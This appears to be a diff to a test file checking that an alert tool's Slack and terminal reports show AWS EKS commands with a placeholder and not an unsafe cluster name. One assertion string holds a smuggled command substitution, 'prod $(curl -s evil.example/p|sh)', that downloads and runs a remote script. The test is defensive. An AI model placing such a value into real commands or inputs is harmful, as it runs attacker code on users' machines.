@@ -60,9 +60,10 @@ describe("16.1 commands are safe to paste", () => {
     expect(slack).toContain("aws eks describe-addon --cluster-name &lt;cluster-name&gt; --addon-name vpc-cni");
     expect(slack).toContain("• *Placeholders:* `&lt;cluster-name&gt;` stands in for \"prod $(curl -s evil.example/p|sh)\", which is not a valid EKS cluster name");
     expect(slack).not.toMatch(/--cluster-name prod/);
-    // The terminal shows the commands as plain text, ready to copy.
-    expect(formatReport([alert!], { color: false })).toContain(
-      "\n          aws eks describe-addon --cluster-name <cluster-name> --addon-name vpc-cni --query 'addon.[addonVersion,status,health]' --region us-west-2\n",
+    // The terminal prints the same command line, ready to copy.
+    const terminal = formatReport([alert!], { color: false }).split("\n").map((l) => l.trim());
+    expect(terminal).toContain(
+      "aws eks describe-addon --cluster-name <cluster-name> --addon-name vpc-cni --query 'addon.[addonVersion,status,health]' --region us-west-2",
     );
   });
 
